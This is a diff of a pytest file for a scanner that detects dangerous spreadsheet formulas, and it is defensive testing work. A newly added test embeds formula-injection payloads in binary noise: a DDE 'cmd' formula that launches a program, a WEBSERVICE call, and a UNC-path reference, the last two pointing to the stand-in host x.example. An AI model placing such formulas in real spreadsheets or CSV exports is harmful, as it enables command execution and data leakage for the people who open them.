@@ -89,7 +89,7 @@ def test_a_body_is_no_table() -> None:
 def test_cells_are_only_so_many(limit: int, codes: tuple[str, ...], monkeypatch: pytest.MonkeyPatch) -> None:
     """What isn't looked through counts as dangerous; three cells with a sign in front."""
     monkeypatch.setattr(table_text, "MAX_CELLS", limit)
-    assert opened(TABLE_TEXT, b"-1\n-2\n-3\n|x!\n", "a.csv").codes == codes
+    assert opened(TABLE_TEXT, b"-1|x!\n-2|x!\n-3|x!\n", "a.csv").codes == codes
 
 
 @pytest.mark.parametrize(("more", "is_seen"), [(1, True), (0, True), (-1, False)])
@@ -125,3 +125,13 @@ def test_ordinary_workbook_of_2003() -> None:
     """Formulas that only count."""
     content = SHEET % (b"", b'<Cell ss:Formula="=SUM(R[-2]C:R[-1]C)"><Data ss:Type="Number">-5</Data></Cell>')
     assert opened(XML_DOCUMENT, content).codes == ()
+
+
+@pytest.mark.parametrize(
+    "formula", [b"=cmd|'/c calc'!A0", b'=WEBSERVICE("http://x.example/")', b"='\\\\x.example\\a\\[b]c'!A1"]
+)
+def test_a_danger_amid_octets_that_are_no_text(formula: bytes) -> None:
+    """Excel opens them under a table's name all the same; the usual spelling is found."""
+    noise = bytes(range(256)).replace(b"\n", b"").replace(b"\r", b"") * 40
+    assert opened(TABLE_TEXT, noise + b"\n" + formula + b"\n" + noise, "a.csv").codes == ACTIVE
+    assert opened(TABLE_TEXT, noise * 4, "a.csv").codes == ()
